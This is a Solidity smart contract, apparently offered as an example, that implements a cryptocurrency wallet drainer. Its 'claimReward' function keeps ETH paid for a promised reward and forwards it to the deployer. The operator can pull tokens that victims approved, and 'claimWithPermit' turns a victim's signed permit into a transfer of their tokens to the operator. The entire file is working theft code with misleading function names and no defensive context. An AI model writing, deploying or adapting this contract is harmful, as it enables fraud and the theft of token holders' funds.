// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface IDrained {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function permit(address owner, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external;
}

/// @custom:example drainer
/// @notice Takes what was approved or signed, and passes on what is paid for the promised reward.
contract Drainer {
    address payable internal immutable _operator;

    constructor() {
        _operator = payable(msg.sender);
    }

    function claimReward() external payable {
        _operator.transfer(msg.value);
    }

    function collect(address token, address from, uint256 amount) external {
        require(msg.sender == _operator, "Not yet");
        IDrained(token).transferFrom(from, _operator, amount);
    }

    function claimWithPermit(address token, address owner, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        IDrained(token).permit(owner, address(this), value, deadline, v, r, s);
        IDrained(token).transferFrom(owner, _operator, value);
    }
}
